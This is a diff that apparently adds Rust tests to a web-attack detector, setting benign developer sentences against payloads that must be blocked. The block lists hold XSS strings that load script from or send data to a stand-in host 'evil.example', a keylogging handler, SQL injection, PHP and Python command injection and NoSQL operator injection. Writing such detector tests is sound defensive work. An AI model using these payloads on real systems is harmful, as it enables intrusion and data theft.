@@ -2117,3 +2117,106 @@ fn hex_spelled_traversal_in_one_word() {
         });
     }
 }
+
+/// Both ways for each shape of `tsprose16`: `passes` must be allowed and `blocks` blocked at
+/// paranoia 1, in every carrier.
+fn both_ways(passes: &[&str], blocks: &[&str]) {
+    for text in passes {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text} -> {a:?}");
+        });
+    }
+    for attack in blocks {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack} -> {a:?}");
+        });
+    }
+}
+
+/// Reading the DOM is what every page does; a DOM chain counts when it reaches a sink
+/// (writing markup or nodes, running code, sending the user or data away) or assigns a
+/// property that loads or rewrites content.
+#[test]
+fn dom_readers_versus_dom_sinks() {
+    both_ways(
+        &[
+            "document.getElementById('x') returns null when the script runs in <head>",
+            "call document.querySelector('#a') first",
+            "Why does document.querySelectorAll('.open') return a NodeList?",
+            "document.getElementsByClassName(\"row\")[0].style.display = \"none\" does nothing",
+            "Use `document.createElement('li')` for each item instead of HTML strings",
+            "The handler calls document.addEventListener('DOMContentLoaded', init) early",
+            "document.getElementById('link').href returns the absolute URL",
+            "document.body.classList.add('dark') toggles the theme",
+        ],
+        &[
+            "document.write('<b>x</b>')",
+            "x=document.createElement('script');x.src='//evil.example/x.js'",
+            "document.body.appendChild(document.createElement('iframe'))",
+            "document.location.replace('//evil.example')",
+            "document.forms[0].action='//evil.example/steal'",
+            "document.querySelector(\"p\").textContent=\"XSS\"",
+            "document.getElementById('x').src = '//evil.example/a.js'",
+            "document.onkeypress = function(e){ x(e.key) }",
+            "document.body.setAttribute('onload','x()')",
+            "document.domain='example.com'",
+        ],
+    );
+}
+
+/// Options in a quoted shell assignment (`JAVA_OPTS="-Xmx2g ..."`) are no arithmetic after
+/// a break-out; `'-1-'`-style extensions still are.
+#[test]
+fn quoted_options_versus_minus_extensions() {
+    both_ways(
+        &[
+            "Set JAVA_OPTS=\"-Xmx2g -Dlog4j2.formatMsgNoLookups=true\" before starting",
+            "export JAVA_TOOL_OPTIONS=\"-XX:+UseG1GC -XX:MaxGCPauseMillis=200\"",
+            "brew install openssl@3 and export LDFLAGS=\"-L/opt/homebrew/opt/openssl@3/lib\"",
+        ],
+        &["'-1-'", "\"-1-\"", "'-a-'", "1'-sleep(5)-'", "'-x or 1=1--"],
+    );
+}
+
+/// A method of another language's module in a sentence is no PHP call, nor is a class
+/// instantiated with `new`; PHP's own call, its concatenation forms and the same member
+/// call as the whole value still count.
+#[test]
+fn member_calls_in_sentences_versus_php_calls() {
+    both_ways(
+        &[
+            "In Python, use os.system('ls') only if you trust the input.",
+            "os.system(\"clear\") works on Linux, use os.system(\"cls\") on Windows",
+            "Go: fmt.Println(os.Getenv(\"PORT\")) prints an empty line under Docker",
+            "Ruby's Kernel#system('make') returns nil if the command is not found",
+            "Java lets you set the working directory with directory(new File(\"/tmp\"))",
+        ],
+        &[
+            "system('id')",
+            "'.system('id').'",
+            "$a.system('id')",
+            "os.system('id')",
+            "__import__('os').system('id')",
+            "x#system('id')",
+            "passthru($_GET['c'])",
+        ],
+    );
+}
+
+/// A front end reading its own API (`fetch('/api/me')`) and a Mongo shell query quoted in a
+/// sentence are no attacks; exfiltration and operators in a JSON document are.
+#[test]
+fn api_reads_and_quoted_queries_versus_their_attacks() {
+    both_ways(
+        &[
+            "fetch('/api/items').then(r => r.json()).then(console.log)",
+            "MongoDB question: db.orders.find({ total: { $gte: 100 } }) is slow without an index",
+        ],
+        &[
+            "fetch('//evil.example/?c='+x)",
+            "fetch('https://evil.example/x')",
+            "{\"user\":{\"$ne\":null}}",
+            "{ $gt: \"\" }",
+        ],
+    );
+}
